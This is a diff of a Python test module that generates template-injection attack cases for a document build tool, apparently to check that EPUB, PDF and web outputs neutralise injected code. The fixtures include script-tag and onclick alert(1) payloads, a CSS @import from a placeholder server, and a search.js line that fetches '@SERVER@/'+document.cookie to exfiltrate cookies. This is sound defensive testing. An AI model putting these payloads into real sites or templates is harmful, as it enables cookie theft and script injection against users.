@@ -2,7 +2,7 @@
 
 from collections.abc import Iterator
 
-from attacks.attack import Attack
+from attacks.attack import Attack, Content
 
 _PLACE = "templates/sections/chapter.html.j2"
 _PAGE = '<section id="{{{{ section.id }}}}" class="division">{}{{{{ body }}}}</section>'
@@ -145,17 +145,35 @@ _BROKEN = ("template-broken", "template-xml")
 
 def _attacks() -> Iterator[Attack]:
     for name, text in _OUT.items():
-        yield Attack(f"template-{name}", {_PLACE: _PAGE.format(text)}, absent=("<class ", "__main__", "<function ", "<built-in"), options=("--epub", "--no-check"))
+        yield Attack(
+            f"template-{name}",
+            {_PLACE: _PAGE.format(text)},
+            absent=("<class ", "__main__", "<function ", "<built-in"),
+            options=("--epub", "--no-check"),
+        )
     for name, text in _HEAVY.items():
-        yield Attack(f"template-heavy-{name}", {_PLACE: _PAGE.format(text)}, options=("--epub", "--pdf", "--no-check") if "span" in name else ("--epub", "--no-check"), seconds=90)
+        yield Attack(
+            f"template-heavy-{name}",
+            {_PLACE: _PAGE.format(text)},
+            options=("--epub", "--pdf", "--no-check") if "span" in name else ("--epub", "--no-check"),
+            seconds=90,
+        )
     for name, text in _ACTIVE.items():
         yield Attack(f"template-active-{name}", {_PLACE: _PAGE.format(text)}, options=_OPTIONS)
     for place in _OTHERS:
         text = '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><p onclick="alert(1)">@import "@SERVER@/a";</p>'
-        files = {f"templates/{place}": text}
-        options = (*_OPTIONS[:-1], "--cover", "--no-check") if place in ("cover.html.j2", "print/cover.html.j2") else _OPTIONS
+        files: dict[str | bytes, Content] = {f"templates/{place}": text}
+        options = (
+            (*_OPTIONS[:-1], "--cover", "--no-check")
+            if place in ("cover.html.j2", "print/cover.html.j2")
+            else _OPTIONS
+        )
         yield Attack(f"template-place-{place}", files, "front: [title-page]\n", options=options)
-    yield Attack("template-js", {"templates/site/search.js": "fetch('@SERVER@/'+document.cookie)"}, options=("--web", "--no-check"))
+    yield Attack(
+        "template-js",
+        {"templates/site/search.js": "fetch('@SERVER@/'+document.cookie)"},
+        options=("--web", "--no-check"),
+    )
 
 
 ATTACKS = tuple(_attacks())
